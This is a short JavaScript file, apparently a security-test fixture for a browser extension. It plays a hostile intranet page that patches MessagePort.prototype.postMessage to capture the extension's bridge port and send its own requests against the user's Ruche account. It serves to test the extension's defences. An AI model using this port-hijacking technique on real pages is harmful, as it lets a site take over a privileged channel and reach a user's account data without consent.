// A script of the test intranet page that wants more of the person's Ruche account than the panel
// offers. It runs in the page's world, as the extension's panel does, so it can do what any script
// there can: patch MessagePort.prototype.postMessage to catch the bridge's port the first time the
// panel uses it, then send its own requests on it (ids from 1e6, answers kept by id).
(function () {
  var post = MessagePort.prototype.postMessage;
  var attack = { port: null, answers: {} };
  window.__attack = attack;
  MessagePort.prototype.postMessage = function () {
    if (!attack.port) {
      attack.port = this;
      this.addEventListener('message', function (event) {
        var data = event.data;
        if (data && typeof data.id === 'number' && data.id >= 1e6) (attack.answers[data.id] = attack.answers[data.id] || []).push(data);
      });
    }
    return post.apply(this, arguments);
  };
})();
